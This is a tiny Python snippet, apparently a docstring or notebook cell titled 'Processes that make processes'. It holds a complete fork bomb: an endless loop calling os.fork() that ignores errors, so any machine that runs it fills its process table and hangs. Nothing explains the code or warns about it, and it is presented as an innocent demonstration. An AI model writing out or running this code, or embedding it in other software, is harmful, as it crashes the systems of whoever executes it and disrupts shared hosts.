"""Processes that make processes.

# %% double
import os
while True:
    try: os.fork()
    except OSError: pass
"""
